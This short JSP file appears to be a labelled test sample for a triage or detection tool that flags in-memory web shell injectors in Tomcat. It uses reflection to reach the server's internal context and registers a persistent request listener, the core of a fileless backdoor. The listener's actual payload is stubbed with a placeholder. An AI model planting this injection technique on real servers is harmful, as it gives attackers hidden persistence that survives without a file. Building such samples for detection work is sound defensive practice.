<%-- triage-expect: triage_jsp_memory_shell_injector --%>
<%@ page import="java.lang.reflect.Field, org.apache.catalina.core.*, javax.servlet.*" %>
<%!
    // stays in memory: answers every request once registered, with no file behind it
    public class Watcher implements ServletRequestListener {
        public void requestDestroyed(ServletRequestEvent e) { }
        public void requestInitialized(ServletRequestEvent e) {
            String k = e.getServletRequest().getParameter("placeholder");
        }
    }
%>
<%
    ServletContext sc = request.getServletContext();
    Field f1 = ApplicationContextFacade.class.getDeclaredField("context");
    f1.setAccessible(true);
    ApplicationContext ac = (ApplicationContext) f1.get(sc);
    Field f2 = ApplicationContext.class.getDeclaredField("context");
    f2.setAccessible(true);
    StandardContext std = (StandardContext) f2.get(ac);
    std.addApplicationEventListener(new Watcher());
%>
